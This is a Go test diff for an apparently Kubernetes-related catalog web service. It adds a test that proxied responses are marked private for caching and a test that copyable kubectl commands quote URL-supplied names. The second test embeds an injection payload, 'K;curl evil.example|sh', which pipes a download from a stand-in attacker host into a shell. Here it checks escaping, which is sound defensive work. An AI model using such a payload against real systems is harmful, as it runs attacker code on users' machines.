@@ -166,3 +166,36 @@ func TestBroadChannel(t *testing.T) {
 		t.Errorf("the page has %d rows, want %d", rows, n)
 	}
 }
+
+// Without a Cache-Control, a proxy may keep a response for other readers: it does not know that the cookie is a credential.
+func TestForwardedResponsesArePrivate(t *testing.T) {
+	for cache, want := range map[string]string{
+		"": "private, no-cache", "no-cache": "private, no-cache", "no-store": "no-store", "public, max-age=9, immutable": "private, max-age=9, immutable",
+		"private, max-age=9": "private, max-age=9",
+	} {
+		api := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			if cache != "" {
+				w.Header().Set("Cache-Control", cache)
+			}
+			w.Header().Set("Last-Modified", "Mon, 02 Jan 2006 15:04:05 GMT")
+		})
+		h := New(Config{Source: func(r *http.Request) Source { return Inside(api, r) }})
+		if got := send(h, "GET", "/catalogs/c/raw/p", "").Header().Get("Cache-Control"); got != want {
+			t.Errorf("Cache-Control %q became %q, want %q", cache, got, want)
+		}
+	}
+}
+
+// Commands to copy quote what a URL or a catalog names.
+func TestCommandsAreQuoted(t *testing.T) {
+	c := newContent(t)
+	c.commit(t, "a", "1", packageFile(t, nil, manyVersions(1, false)))
+	page := c.open(t, "/apis/g.example/"+"K;curl%20evil.example%7Csh?catalog=a")
+	found := ""
+	for _, code := range page.all("code", "") {
+		found += code.text() + "\n"
+	}
+	if !strings.Contains(found, "kubectl catalog providers 'K;curl evil.example|sh.g.example' --catalog a") {
+		t.Error(found)
+	}
+}
